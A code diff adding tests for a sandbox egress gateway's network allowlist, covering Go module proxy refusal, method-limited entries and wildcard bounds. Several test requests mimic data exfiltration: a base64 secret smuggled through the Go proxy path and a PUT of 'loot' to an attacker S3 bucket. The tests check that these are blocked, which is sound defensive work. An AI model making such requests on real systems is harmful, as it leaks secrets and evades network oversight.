@@ -1,11 +1,17 @@
 /**
  * The grant: what the gateway may do for a sandbox given what the agent
  * knows right now. A missing fact makes it smaller: no running turn, no
- * credential at all; no write policy yet, no push and no write token.
+ * credential at all; no write policy yet, no push and no write token. Its
+ * allowlist, through the real gateway: Go's module proxy refused by
+ * default, a GET-only entry refusing a POST, a customer's host under a
+ * broader wildcard refused, a policy of plain strings read as before.
  */
 import { describe, expect, it } from "vitest";
-import { DEFAULT_ALLOW } from "../../src/egress/allowlist";
-import { egressOpen, grantFor } from "../../src/egress/grant";
+import { DEFAULT_ALLOW, type AllowRule } from "../../src/egress/allowlist";
+import { EgressGateway, type EgressRefusal } from "../../src/egress/gateway";
+import { endpointsFor } from "../../src/egress/github-routes";
+import { egressOpen, grantFor, type EgressGrant } from "../../src/egress/grant";
+import { GITHUB_COM } from "../../src/shared/github-urls";
 
 const TOKENS = { readToken: "ghs_READ", writeToken: "ghs_WRITE" };
 const RUN = { submissionId: "sub-1", repo: "Octo/Repo", ...TOKENS };
@@ -96,5 +102,76 @@ describe("grantFor", () => {
 
   it("keeps GitHub's rules when egress is open: no push without a policy", () => {
     expect(grantFor({ ...RUN, egress: "open" })).toMatchObject({ open: true, pushBranch: null, writeToken: "" });
+  });
+});
+
+describe("the grant's allowlist, at the gateway", () => {
+  /** The real gateway over `grant`, an upstream that answers 200 and records, and the refusals it told. */
+  function gatewayFor(grant: EgressGrant) {
+    const reached: string[] = [];
+    const refusals: EgressRefusal[] = [];
+    const gateway = new EgressGateway({
+      endpoints: endpointsFor(GITHUB_COM, ""),
+      grant: async () => grant,
+      upstream: async (request) => {
+        reached.push(`${request.method} ${request.url}`);
+        return new Response("ok");
+      },
+      refused: (refusal) => {
+        refusals.push(refusal);
+      }
+    });
+    const send = async (method: string, url: string) => {
+      const response = await gateway.fetch(new Request(url, { method, ...(method === "POST" || method === "PUT" ? { body: "data" } : {}) }));
+      return { status: response.status, text: await response.text() };
+    };
+    return { send, reached, refusals };
+  }
+
+  it("refuses Go's module proxy and checksum database by default, naming how to allow them", async () => {
+    const { send, reached, refusals } = gatewayFor(grantFor(RUN));
+    const proxy = await send("GET", "https://proxy.golang.org/evil.example/c2VjcmV0/@v/list");
+    expect(proxy.status).toBe(403);
+    expect(proxy.text).toMatch(/^egress refused: proxy\.golang\.org is not on this run's network allowlist; to allow it, add it to network\.allow/);
+    expect((await send("GET", "https://sum.golang.org/lookup/evil.example/x@v1.0.0")).status).toBe(403);
+    expect(reached).toEqual([]);
+    expect(refusals.map((refusal) => [refusal.host, refusal.method])).toEqual([["proxy.golang.org", "GET"], ["sum.golang.org", "GET"]]);
+  });
+
+  it("lets a GET-only entry's host be read, and refuses a POST to it as a method it may not use", async () => {
+    const { send, reached, refusals } = gatewayFor(grantFor({ ...RUN, repositoryAllow: [{ host: "proxy.golang.org", methods: ["GET", "HEAD"] }] }));
+    expect((await send("GET", "https://proxy.golang.org/github.com/!burnt!sushi/toml/@v/list")).status).toBe(200);
+    expect((await send("HEAD", "https://proxy.golang.org/golang.org/x/mod/@v/v0.20.0.info")).status).toBe(200);
+    const post = await send("POST", "https://proxy.golang.org/github.com/x/y/@v/list");
+    expect(post.status).toBe(403);
+    expect(post.text).toMatch(/^egress refused: POST to proxy\.golang\.org is not allowed \(this run may only read from it\)/);
+    expect(reached).toEqual([
+      "GET https://proxy.golang.org/github.com/!burnt!sushi/toml/@v/list",
+      "HEAD https://proxy.golang.org/golang.org/x/mod/@v/v0.20.0.info"
+    ]);
+    expect(refusals).toEqual([{ submissionId: "sub-1", host: "proxy.golang.org", method: "POST", reason: post.text.trim() }]);
+  });
+
+  it("does not let a broader wildcard reach a customer's host under a public suffix below it", async () => {
+    const { send, reached } = gatewayFor(grantFor({ ...RUN, repositoryAllow: ["*.amazonaws.com"] }));
+    expect((await send("GET", "https://sts.amazonaws.com/")).status).toBe(200);
+    expect((await send("PUT", "https://attacker-bucket.s3.amazonaws.com/loot")).status).toBe(403);
+    expect((await send("GET", "https://ec2-1-2-3-4.compute-1.amazonaws.com/")).status).toBe(403);
+    expect(reached).toEqual(["GET https://sts.amazonaws.com/"]);
+  });
+
+  it("reads a policy stored as plain strings (before entries had methods) as it always did: every method", async () => {
+    const stored = JSON.parse(JSON.stringify({ pushBranch: null, allow: ["api.example.com", "*.corp.example"] })) as { allow: AllowRule[] };
+    const { send, reached } = gatewayFor(grantFor({ ...RUN, repositoryAllow: stored.allow }));
+    expect((await send("POST", "https://api.example.com/v1/things")).status).toBe(200);
+    expect((await send("DELETE", "https://build.corp.example/cache")).status).toBe(200);
+    expect(reached).toHaveLength(2);
+  });
+
+  it("keeps a method entry through storage's JSON, and leaves out an entry refused since it was stored", () => {
+    const stored = JSON.parse(JSON.stringify([{ host: "proxy.golang.org", methods: ["GET", "HEAD"] }, "*.github.io"])) as AllowRule[];
+    expect(grantFor({ ...RUN, repositoryAllow: stored }).allow.slice(DEFAULT_ALLOW.length)).toEqual([
+      { pattern: "proxy.golang.org", methods: ["GET", "HEAD"], source: "repository" }
+    ]);
   });
 });
